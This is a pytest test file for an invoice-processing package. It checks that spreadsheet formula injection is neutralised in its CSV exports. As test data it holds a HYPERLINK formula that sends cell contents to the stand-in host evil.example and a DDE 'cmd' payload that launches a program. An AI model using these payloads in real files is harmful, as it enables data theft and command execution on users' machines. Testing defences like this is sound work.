"""Spreadsheet formula injection: cells from a partner's report or invoice that start with a formula
prefix arrive inert in every CSV made for people (the change CSV, ``receivables``, ``find-invoices``)
and in the open-AR CSV output format, while numbers (``-12.50``) stay numbers."""

from __future__ import annotations

import csv
import hashlib
import io
from decimal import Decimal
from pathlib import Path

import pytest

from invoice_hub.config.models import Reconcile
from invoice_hub.formats.open_ar_csv import read_open_ar_csv, write_open_ar_csv
from invoice_hub.ledger.database import get_engine
from invoice_hub.ledger.receivables import Receivables
from invoice_hub.model import Identifier, Invoice, Party, Totals
from invoice_hub.reconciliation.apply import reconcile_file
from invoice_hub.reconciliation.outputs import write_changes_csv
from invoice_hub.reconciliation.snapshot import produced_at
from invoice_hub.spreadsheet import neutralise_formula

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+41 22 123", "'+41 22 123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        ("INV-1", "INV-1"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_formula(cell: str, safe: str) -> None:
    assert neutralise_formula(cell) == safe


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _reconcile(folder: Path, ledger_url: str, day: int, rows: str):  # -> Outcome
    path = folder / f"open_ar_2026-11-{day:02d}.csv"
    path.write_text("Invoice No,Customer ID,Customer Name,Open Amount,Currency\n" + rows, encoding="utf-8")
    return reconcile_file(
        Receivables(get_engine(ledger_url)),
        "ar_in",
        Reconcile(),
        path,
        source=f"/in/{path.name}",
        sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
        produced_at=produced_at(path.name, path.stat().st_mtime),
        run_id="test",
    )


def test_change_csv_and_receivables_listing_neutralise_formulas(
    tmp_path: Path, ledger_url: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from invoice_hub.cli import main

    report = f'"@SUM(A1)",c1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",-12.50,EUR\nB,+c2,Plain,10,EUR\n'
    outcome = _reconcile(tmp_path, ledger_url, 1, report)
    assert outcome.status == "applied", outcome.reason
    sink = io.BytesIO()
    write_changes_csv(outcome, sink)
    text = sink.getvalue().decode()
    header, *rows = _rows(text)
    by_ref = {row[header.index("invoice_ref")]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_ref) == {"'@SUM(A1)", "B"}
    first = by_ref["'@SUM(A1)"]
    assert first["customer_name"] == "'" + HYPERLINK
    assert first["open_amount"] == "-12.50", "a negative amount stays a number"
    assert by_ref["B"]["customer"] == "'+c2"
    assert text.splitlines()[0].startswith('"invoice_ref","change"'), "every cell quoted"

    monkeypatch.setenv("AIRFLOW_CONN_INVOICE_HUB_DB", ledger_url)
    assert main(["receivables", "ar_in"]) == 0
    header, *rows = _rows(capsys.readouterr().out)
    listed = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert listed["'@SUM(A1)"]["customer_name"] == "'" + HYPERLINK
    assert listed["'@SUM(A1)"]["open_amount"] == "-12.50"
    assert listed["B"]["customer"] == "'+c2"
    assert main(["receivables", "ar_in", "--ref", "@SUM(A1)"]) == 0
    header, row = _rows(capsys.readouterr().out)
    assert row[header.index("open_amount")] == "-12.50"


def test_open_ar_csv_output_neutralises_text_cells_never_numbers(tmp_path: Path) -> None:
    invoice = Invoice(
        number="@INV-1",
        currency="EUR",
        buyer=Party(name=HYPERLINK, ids=[Identifier(value="-C1")]),
        totals=Totals(tax_inclusive=Decimal("-12.50"), payable=Decimal("-12.50")),
        custom_fields={"Note": "=1+2", "Discount": "-5.00"},
    )
    path = tmp_path / "out.csv"
    with path.open("wb") as sink:
        write_open_ar_csv([invoice], sink)
    header, row = _rows(path.read_text(encoding="utf-8"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Invoice Number"] == "'@INV-1"
    assert cells["Customer ID"] == "'-C1"
    assert cells["Customer Name"] == "'" + HYPERLINK
    assert cells["Note"] == "'=1+2"
    assert (cells["Amount"], cells["Open Amount"], cells["Discount"]) == ("-12.50", "-12.50", "-5.00")
    (back,) = read_open_ar_csv(path)
    assert back.totals.payable == Decimal("-12.50"), "amounts round-trip exactly"
